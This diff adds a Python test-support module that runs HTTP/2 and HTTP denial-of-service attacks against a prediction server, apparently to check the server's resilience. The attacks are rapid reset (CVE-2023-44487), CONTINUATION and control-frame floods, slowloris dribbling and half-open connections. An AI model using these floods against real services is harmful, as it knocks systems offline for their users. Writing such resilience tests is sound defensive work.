@@ -1,0 +1,278 @@
+"""Attacks on a server, in a process of their own.
+
+    python -m support.attacks rapid_resets 127.0.0.1:50051 10000
+
+does it `count` times, prints a line with what came of it as JSON, and holds every connection until its standard input
+ends.
+"""
+
+import json
+import socket
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import Callable
+from contextlib import suppress
+from pathlib import Path
+from types import TracebackType
+from typing import Any, Self
+
+from support.frames import (
+    CONTINUATION,
+    DATA,
+    END_HEADERS,
+    END_STREAM,
+    HEADERS,
+    INITIAL_WINDOW_SIZE,
+    PING,
+    PREFACE,
+    PRIORITY,
+    RST_STREAM,
+    SETTINGS,
+    WINDOW_UPDATE,
+    call_headers,
+    frame,
+)
+
+PREDICT = "/digits.v1.PredictionService/Predict"
+SECONDS = 20.0
+"""How long a server may leave an attacker's bytes unread before it tries another connection."""
+IMAGE = b"\x0a\x90\x06" + bytes(784)
+CALL = b"\0" + len(IMAGE).to_bytes(4, "big") + IMAGE
+CANCEL = (8).to_bytes(4, "big")
+MOST_CONNECTIONS = 2_000
+"""An attacker who is sent away connects anew, at most so often."""
+
+
+class Attacker:
+    """Somebody with connections to "host:port"; keeps count of what the server did about it."""
+
+    def __init__(self, target: str) -> None:
+        host, _, port = target.rpartition(":")
+        self._address = (host, int(port))
+        self.open: list[socket.socket] = []
+        self.sent = 0
+        self.cut = 0
+
+    def connect(self, begin: bytes = PREFACE) -> socket.socket:
+        made = socket.create_connection(self._address, timeout=SECONDS)
+        made.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        with suppress(OSError):
+            made.sendall(begin)
+        self.open.append(made)
+        return made
+
+    def flood(self, pieces: Callable[[int], bytes], count: int, in_one: int = 100, begin: bytes = PREFACE) -> None:
+        """Sends pieces(0), pieces(1), … until `count` have been sent, `in_one` at a time.
+
+        On one connection after another, as the server cuts them; numbers start anew with each.
+        """
+        while self.sent < count and self.cut < MOST_CONNECTIONS:
+            connection, number = self.connect(begin), 0
+            threading.Thread(target=_read_all, args=[connection], daemon=True).start()
+            try:
+                while self.sent < count:
+                    connection.sendall(b"".join(map(pieces, range(number, number + in_one))))
+                    number += in_one
+                    self.sent += in_one
+            except OSError:
+                self.cut += 1
+                connection.close()
+
+
+def _read_all(connection: socket.socket) -> None:
+    with suppress(OSError):
+        while connection.recv(65536):
+            pass
+
+
+def stream(number: int) -> int:
+    return 2 * number + 1
+
+
+def idle(attacker: Attacker, count: int) -> None:
+    for _ in range(count):
+        attacker.connect()
+    attacker.sent = count
+
+
+def half_open(attacker: Attacker, count: int) -> None:
+    """Connections on which nothing, or half of how one begins, is ever sent."""
+    for number in range(count):
+        attacker.connect(PREFACE[: 12 * (number % 2)])
+    attacker.sent = count
+
+
+def one_byte_a_second(attacker: Attacker, count: int) -> None:
+    """Calls sent a byte a second: half of them from their headers on, half their message, each byte in its frame."""
+    headers = frame(HEADERS, END_HEADERS, 1, call_headers(PREDICT))
+    for number in range(count):
+        attacker.connect(PREFACE + (headers if number % 2 else b""))
+    attacker.sent = count
+
+    def dribble() -> None:
+        for at in range(3600):
+            for number, connection in enumerate(attacker.open):
+                piece = frame(DATA, 0, 1, CALL[at : at + 1]) if number % 2 else headers[at : at + 1]
+                with suppress(OSError):
+                    connection.sendall(piece)
+            time.sleep(1)
+
+    threading.Thread(target=dribble, daemon=True).start()
+
+
+def rapid_resets(attacker: Attacker, count: int) -> None:
+    """Calls that are taken back as soon as they are made (CVE-2023-44487)."""
+    headers = call_headers(PREDICT)
+
+    def reset(number: int) -> bytes:
+        at = stream(number)
+        return frame(HEADERS, END_HEADERS, at, headers) + frame(RST_STREAM, 0, at, CANCEL)
+
+    attacker.flood(reset, count)
+
+
+def resets_of_whole_calls(attacker: Attacker, count: int) -> None:
+    """The same with the whole request, whose work has begun by then."""
+    headers = call_headers(PREDICT)
+
+    def reset(number: int) -> bytes:
+        at = stream(number)
+        whole = frame(HEADERS, END_HEADERS, at, headers) + frame(DATA, END_STREAM, at, CALL)
+        return whole + frame(RST_STREAM, 0, at, CANCEL)
+
+    attacker.flood(reset, count, 10)
+
+
+def pings(attacker: Attacker, count: int) -> None:
+    attacker.flood(lambda _: frame(PING, 0, 0, b"anybody?"), count)
+
+
+def settings(attacker: Attacker, count: int) -> None:
+    attacker.flood(lambda number: frame(SETTINGS, 0, 0, b"\0\x04" + (65_535 + number % 9).to_bytes(4, "big")), count)
+
+
+def priorities(attacker: Attacker, count: int) -> None:
+    attacker.flood(lambda number: frame(PRIORITY, 0, stream(number), bytes(4) + b"\x10"), count)
+
+
+def empty_data(attacker: Attacker, count: int) -> None:
+    opened = PREFACE + frame(HEADERS, END_HEADERS, 1, call_headers(PREDICT))
+    attacker.flood(lambda _: frame(DATA, 0, 1), count, begin=opened)
+
+
+def window_updates(attacker: Attacker, count: int) -> None:
+    attacker.flood(lambda _: frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")), count)
+
+
+def continuations(attacker: Attacker, count: int) -> None:
+    """Headers without an end, 16 KiB at a time."""
+    opened = PREFACE + frame(HEADERS, 0, 1, call_headers(PREDICT))
+    name = b"x" * 7
+    more = frame(CONTINUATION, 0, 1, (b"\0\x07" + name + b"\x71" + b"y" * 113) * 128)
+    attacker.flood(lambda _: more, count, 10, opened)
+
+
+def large_headers(attacker: Attacker, count: int) -> None:
+    """Calls whose metadata is 15 KiB each and just within the limit, and then far over it."""
+    small = {f"x-note-{number}": "y" * 100 for number in range(100)}
+    large = {f"x-note-{number}": "y" * 100 for number in range(400)}
+
+    def call(number: int) -> bytes:
+        block = call_headers(PREDICT, **(large if number % 2 else small))
+        at, pieces = stream(number), [block[start : start + 16_000] for start in range(0, len(block), 16_000)]
+        first = frame(HEADERS, 0 if len(pieces) > 1 else END_HEADERS, at, pieces[0])
+        rest = b"".join(
+            frame(CONTINUATION, END_HEADERS if piece is pieces[-1] else 0, at, piece) for piece in pieces[1:]
+        )
+        return first + rest + frame(DATA, END_STREAM, at, CALL)
+
+    attacker.flood(call, count, 2)
+
+
+def closed_windows(attacker: Attacker, count: int) -> None:
+    """Calls whose replies may never be sent, for the caller lets nothing in."""
+    nothing = frame(SETTINGS, 0, 0, INITIAL_WINDOW_SIZE.to_bytes(2, "big") + bytes(4))
+    headers = call_headers(PREDICT)
+    connection = attacker.connect(PREFACE + nothing)
+    for number in range(min(count, 1000)):
+        at = stream(number)
+        with suppress(OSError):
+            connection.sendall(frame(HEADERS, END_HEADERS, at, headers) + frame(DATA, END_STREAM, at, CALL))
+            attacker.sent += 1
+
+
+def garbage(attacker: Attacker, count: int) -> None:
+    """Other protocols, and frames that are none."""
+    for number in range(count):
+        words = [b"GET / HTTP/1.1\r\nhost: x\r\n\r\n", b"\x16\x03\x01" + bytes(500), PREFACE + b"\xff" * 500]
+        attacker.connect(words[number % 3]).close()
+        attacker.open.pop()
+        attacker.sent += 1
+
+
+def http_idle(attacker: Attacker, count: int) -> None:
+    for _ in range(count):
+        attacker.connect(b"")
+    attacker.sent = count
+
+
+def http_slow(attacker: Attacker, count: int) -> None:
+    """Headers without an end, a few bytes a second; half of the callers have sent those of a long body instead."""
+    head = b"POST /v2/models/digits/infer HTTP/1.1\r\nhost: x\r\n"
+    for number in range(count):
+        attacker.connect(head + (b"content-length: 100000\r\n\r\n" if number % 2 else b""))
+    attacker.sent = count
+
+    def dribble() -> None:
+        while True:
+            for number, connection in enumerate(attacker.open):
+                with suppress(OSError):
+                    connection.sendall(b" " if number % 2 else b"x: y\r\n")
+            time.sleep(1)
+
+    threading.Thread(target=dribble, daemon=True).start()
+
+
+class Attack:
+    """One of the above, from entry until exit."""
+
+    def __init__(self, name: str, target: str, count: int) -> None:
+        self.name = name
+        self.count = count
+        self._target = target
+
+    def __enter__(self) -> Self:
+        self._process = subprocess.Popen(
+            [sys.executable, "-m", "support.attacks", self.name, self._target, str(self.count)],
+            stdin=subprocess.PIPE,
+            stdout=subprocess.PIPE,
+            text=True,
+            cwd=Path(__file__).parents[1],
+        )
+        return self
+
+    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None, at: TracebackType | None) -> None:
+        self._process.kill()
+        self._process.communicate()
+
+    def done(self) -> dict[str, Any]:
+        """Waits for the attack to have been made: `sent`, how often; `cut`, connections that the server ended."""
+        assert self._process.stdout
+        line = self._process.stdout.readline()
+        assert line, "the attacker failed"
+        said: dict[str, Any] = json.loads(line)
+        return said
+
+
+def main(name: str, target: str, count: str) -> None:
+    attacker = Attacker(target)
+    globals()[name](attacker, int(count))
+    sys.stdout.write(json.dumps({"sent": attacker.sent, "cut": attacker.cut}) + "\n")
+    sys.stdout.flush()
+    sys.stdin.read()
+
+
+if __name__ == "__main__":
+    main(*sys.argv[1:])
